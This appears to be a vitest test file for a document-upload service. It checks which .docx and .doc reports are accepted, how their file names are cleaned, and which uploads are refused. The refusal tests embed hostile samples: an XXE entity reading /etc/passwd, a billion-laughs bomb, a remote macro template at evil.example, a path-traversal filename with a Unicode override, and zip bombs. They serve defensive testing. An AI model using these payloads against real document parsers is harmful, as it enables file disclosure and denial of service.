import { randomBytes } from 'node:crypto'

import { strToU8, zipSync } from 'fflate'
import { expect, test } from 'vitest'

import { startApp } from '../../../../test/app.ts'
import {
  announcing,
  reportsIn,
  doc,
  docx,
  field,
  office,
  ole,
  oleWith,
  relations,
  utf16,
  withBody,
} from '../../../../test/reports.ts'
import { keysIn } from '../../../../test/uploads.ts'

const app = await startApp()
const { owner, newProject, add, linkFor, get } = await reportsIn(app)
const megabyte = 1024 * 1024

test.each<[string, Buffer, string, string]>([
  ['a .docx', docx(), 'My thesis.docx', 'My thesis.docx'],
  ['a .doc', doc(), 'thesis.doc', 'thesis.doc'],
  ['a .docx that is called .doc', docx(), 'thesis.doc', 'thesis.docx'],
  ['a .doc that is called .docx', doc(), 'thesis.DOCX', 'thesis.doc'],
  ['a .docx with a path for a name', docx(), '../../etc/pass\u202Ewd.docx', 'passwd.docx'],
  ['a .docx with signs that Windows does not allow', docx(), 'Thesis: final?.docx', 'Thesis final.docx'],
  ['a .docx with a name that Windows reserves', docx(), 'aux.docx', 'project-report.docx'],
  [
    'a .docx with links to pages and emails',
    docx({
      'word/_rels/document.xml.rels': relations(
        `<Relationship Id="1" Type="${office}/hyperlink" Target="https://example.in/?a=1&amp;b=2>3" TargetMode="External"/>
         <Relationship Type='${office}/hyperlink' Id='2' TargetMode='External' Target='mailto:asha@example.in'/>
         <Relationship Id="3" Type="http://x/styles" Target="styles.xml" TargetMode="Internal"/>`,
      ),
    }),
    'a.docx',
    'a.docx',
  ],
  [
    'a .docx with page numbers, a table of contents, citations and links',
    withBody(
      field('PAGE') +
        field(' TOC \\o "1-3" \\h ') +
        field(' ADDIN CSL_CITATION {"schema": "https://github.com/citation"} ') +
        field(' HYPERLINK "https://example.in" \\o "tip" ') +
        field(' HYPERLINK \\l "_Toc1" ') +
        field(' IF ', field('PAGE'), ' &gt; 1 "a" "b" ') +
        '<w:fldSimple w:instr=" DATE "/><v:shape href="https://example.in"><v:imagedata r:id="a"/></v:shape>',
    ),
    'a.docx',
    'a.docx',
  ],
  [
    'a .docx with a chart and its numbers, and with UTF-16',
    docx({
      'word/charts/_rels/chart1.xml.rels': relations(
        `<Relationship Id="1" Type="${office}/package" Target="../embeddings/Sheet1.xlsx"/>`,
      ),
      'word/embeddings/Sheet1.xlsx': 'PK',
      'customXml/item1.xml': utf16('<?xml version="1.0" encoding="UTF-16"?><a/>'),
      'word/media/image1.png': new Uint8Array([137, 80, 78, 71]),
    }),
    'a.docx',
    'a.docx',
  ],
])('%s is taken, under a name that fits', async (_name, file, name, kept) => {
  const id = await newProject()
  expect(await add(id, file, 99.5, name)).toMatchObject({
    hasReport: true,
    reportPrice: 99.5,
    reportFileName: kept,
  })
  const { downloadUrl, fileName } = await linkFor(owner, id)
  expect(fileName).toBe(kept)
  expect((await get(downloadUrl)).rawPayload.equals(file)).toBe(true)
})

const template = (attributes: string) =>
  docx({ 'word/_rels/settings.xml.rels': relations(`<Relationship Id="1" ${attributes}/>`) })
const xxe =
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document>&e;</w:document>'
const laughs = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>`

test.each<[string, Buffer]>([
  ['a page', Buffer.from('<!doctype html><script>alert(1)</script>')],
  ['a PDF', Buffer.from('%PDF-1.7\n')],
  ['a program', Buffer.concat([Buffer.from('MZ'), randomBytes(500)])],
  ['a ZIP without a document', Buffer.from(zipSync({ 'a.txt': strToU8('a') }))],
  [
    'a spreadsheet',
    Buffer.from(zipSync({ 'xl/workbook.xml': strToU8('<x/>'), '[Content_Types].xml': strToU8('<x/>') })),
  ],
  ['half a .docx', docx().subarray(0, 300)],
  ['a .docm', docx({ 'word/vbaProject.bin': 'x' })],
  ['a .docm with a shout', docx({ 'word/VBAPROJECT.BIN': 'x' })],
  [
    'a .docm by its types',
    docx({
      '[Content_Types].xml':
        '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    }),
  ],
  ['a .doc that is only its first bytes', doc().subarray(0, 8)],
  ['a .doc that has no text', ole([], Buffer.alloc(4096))],
  ['a spreadsheet of the old kind', ole([['Workbook', 2]])],
  ['a .doc whose text is a storage', ole([['WordDocument', 1]])],
  ['a .doc with macros', oleWith('_VBA_PROJECT', 2)],
  ['a document with an outer entity', docx({ 'word/document.xml': xxe })],
  ['a document with an outer entity in UTF-16', docx({ 'word/document.xml': utf16(xxe) })],
  ['a document with an outer entity in a part', docx({ 'customXml/item1.xml': xxe })],
  ['a document of billion laughs', docx({ 'word/document.xml': laughs })],
  [
    'an outer template',
    template('Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"'),
  ],
  [
    'an outer template, attributes the other way',
    template("TargetMode = 'External' Target='a>b' Type='http://x/attachedTemplate'"),
  ],
  [
    'an outer template, spelt strangely',
    template('Type="http://x/attachedTempl&#97;te" Target="x" TargetMode="&#69;xternal"'),
  ],
  [
    'an outer template, beyond understanding',
    template('Type="http://x/hyperlink" Target="x" junk TargetMode="External"'),
  ],
  [
    'an outer template in UTF-16',
    docx({
      'word/_rels/s.rels': utf16(
        relations('<Relationship Type="x/attachedTemplate" TargetMode="External"/>'),
      ),
    }),
  ],
  [
    'an outer frame',
    docx({
      'word/_rels/webSettings.xml.rels': relations(
        '<r:Relationship Type="x/frame" Target="x" TargetMode="External"/>',
      ),
    }),
  ],
  ['a bomb', announcing(docx({ 'word/media/bomb.bin': 'x' }), 'word/media/bomb.bin', 210 * megabyte)],
  ['a bomb of XML', announcing(docx({ 'word/bomb.xml': 'x' }), 'word/bomb.xml', 65 * megabyte)],
  [
    'a document of too many parts',
    docx(Object.fromEntries(Array.from({ length: 2000 }, (_, n) => [`word/${n}.bin`, '']))),
  ],
])('%s is refused, and nothing is stored', async (_name, file) => {
  const id = await newProject()
  const before = await keysIn(app.dependencies.storage)
  await expect(add(id, file, 10)).rejects.toMatchObject({
    code: 'unsupported_type',
    message: expect.stringMatching(/^The report (must be|cannot be|holds|refers|is protected)/),
  })
  expect(await keysIn(app.dependencies.storage)).toEqual(before)
  expect((await owner.api.projects.get({ params: { id } })).project.hasReport).toBe(false)
})

test('a document whose parts are larger than they say is refused', async () => {
  const bytes = announcing(
    docx({ 'word/document.xml': `<x>${'a'.repeat(100_000)}</x>` }),
    'word/document.xml',
    100,
  )
  await expect(add(await newProject(), bytes, 10)).rejects.toMatchObject({ code: 'unsupported_type' })
})

test('a report over 20 MB is refused by name', async () => {
  const big = doc(Buffer.alloc(20 * megabyte))
  await expect(add(await newProject(), big, 10)).rejects.toMatchObject({
    code: 'too_large',
    message: 'report.docx exceeds 20MB limit',
  })
})
